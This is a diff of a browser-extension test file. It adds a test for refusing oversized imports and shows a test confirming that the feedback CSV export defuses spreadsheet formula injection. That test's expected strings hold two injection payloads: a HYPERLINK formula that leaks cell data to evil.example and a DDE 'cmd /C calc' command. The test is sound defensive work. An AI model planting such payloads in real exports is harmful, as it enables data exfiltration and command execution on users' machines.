@@ -69,7 +69,7 @@ test('the feedback CSV writes a hostile contact name and answer as text, never a
   await dashboard.goto(`chrome-extension://${new URL(worker.url()).host}/dashboard.html`);
   await expect(dashboard.getByTestId('feedback-row')).toHaveCount(1);
   const [download] = await Promise.all([dashboard.waitForEvent('download'), dashboard.getByTestId('export-feedback').click()]);
-  const csv = readFileSync((await download.path()), 'utf8');
+  const csv = readFileSync(await download.path(), 'utf8');
   expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Jane"")"`);
   expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
   expect(csv).not.toMatch(/(^|,)"?=/m);
@@ -125,4 +125,23 @@ test('a service worker stopped again and again while DM tabs load loses no messa
       { timeout: 60_000, message: 'events stored' },
     )
     .toEqual([false, false, false, false, true, true, true, true, true, true, true, true]);
+});
+
+test('a file over the import limit is refused in words before anything is sent', async ({ context, extensionId }) => {
+  const page = await context.newPage();
+  await page.goto(`chrome-extension://${extensionId}/options.html`);
+  await expect(page.getByTestId('library-row').first()).toBeVisible();
+  const big = Buffer.alloc(21 * 1024 * 1024, ' ');
+  await page.getByTestId('import-file').setInputFiles({ name: 'huge.json', mimeType: 'application/json', buffer: big });
+  await expect(page.getByTestId('import-status')).toHaveText(
+    'Could not import huge.json: the file is 21.0 MB; at most 20 MB can be imported at once. Nothing was imported.',
+  );
+  const withField = JSON.stringify({ templates: [{ title: 'Big', body: 'Hi', notes: 'x'.repeat(3_000_000) }] });
+  await page
+    .getByTestId('import-file')
+    .setInputFiles({ name: 'field.json', mimeType: 'application/json', buffer: Buffer.from(withField) });
+  await expect(page.getByTestId('import-status')).toContainText(
+    'Template 1 ("Big"): the extra field "notes" is too large to keep (at most 2,000 characters).',
+  );
+  await expect(page.getByTestId('import-status')).not.toContainText('Invalid');
 });
